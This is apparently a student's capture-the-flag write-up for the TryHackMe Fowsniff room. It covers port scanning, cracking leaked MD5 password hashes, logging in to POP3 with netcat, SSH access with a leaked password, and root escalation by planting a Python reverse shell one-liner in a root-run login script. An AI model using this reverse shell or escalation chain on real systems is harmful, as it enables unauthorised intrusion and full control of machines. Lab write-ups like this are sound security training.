Hack this machine and get the flag. There are lots of hints along the way and is perfect for beginners!

This is the write-up for the room Fowsniff CTF on Tryhackme and it is part of our cybersecurity training from HackerU.

This boot2root machine is brilliant for new starters. You will have to enumerate this machine by finding open ports, do some online research (it's amazing how much information Google can find for you), decoding hashes, brute-forcing a pop3 login, and much more!

Firstly we have to make a connection with VPN or use the attack box on the Tryhackme site to connect to the Tryhackme lab environment.

VPN connection with THMNow will move toward our task. Using Nmap, scan this machine. What ports are open? Before doing a Nmap scan check if we are getting ping from the target system. we were not getting ping this might be due to the ping is blocked in the target system.

nmap -sS -sV -A -Pn

(TCP SYN scan)

(Version detection)

(Aggressive scan options)

-Pn (No ping)

Nmap scan

From the scan, we found that there are 4 ports open. port 22, port 80, port 110, port 143.As port 80 is open will check if we get any information on the webpage.


from the webpage, we came to know that Fownsniff corp. has been pawned by B1gN1nj4!. so searched for this name on the internet and found a Twitter account.

In THM it was said to google search and see if we can get any public information about them.

On checking the Twitter link got that the email-id and password have been dumped in Pastebin.

user search
Pastebin link

We got the Pastebin link now will check the credentials dumped there.

Pastebin site -credentials

We got the credentials of the user's email here it is in md5 hashes will try to decrypt it using an online search hashkiller was provided by THM to convert the md5 hashes.

some of the credentials we were able to convert.

decrypted md5 hashes

we were asked What was Siena's password to the email service? in THM.


Next was asked to connect to the pop3 service with her credentials? What email information can you gather?

so logged in to the mail server using nc (hint was given).nc 110

pop3 mail login

We logged in to Siena's id and saw 2 emails have been received. Will see for any useful information in it.

first mail

In the first mail found that there is a temporary ssh password. And we got the answer to the questionLooking through her emails, what was a temporary password set for her?’


Now will see the second mail if we get any more information. And was mentioned in THM that the “ In the email, who send it? Using the password from the previous question and the sender's username, connect to the machine using SSH.”

second mail

we found that baksteen was the user who sent it and in previous mail we got the password will try to log in ssh.

ssh login

Once connected, what groups does this user belong to? Are there any interesting files that can be run by that group?

We got the file cube.sh which has sgid permission that any user can edit it which is in the group.

find / -group users -type f 2>/dev/null


And it was mentioned to look into directory /etc/update-motd.d/.

So went to the directory mentioned and searched for information.

cube.sh working

From the 00-header file content, we came to know that the cube.sh file is running at the start when we log in. So we have to edit the file write our python reverse shell script and re-login to get privileged user access as this cube.sh file is run as root.

python3 -c ‘import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((“”,1234));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);p=subprocess.call([“/bin/sh”,”-i”]);’

python script

And opened Netcat listener at port 1234 and will wait to get root shell.


Thus we successfully able to crack the box get privilege escalation and got root access and captured the flag.

Cybersecurity enthusiast currentlylearning cybersecurity asRED team From HackerU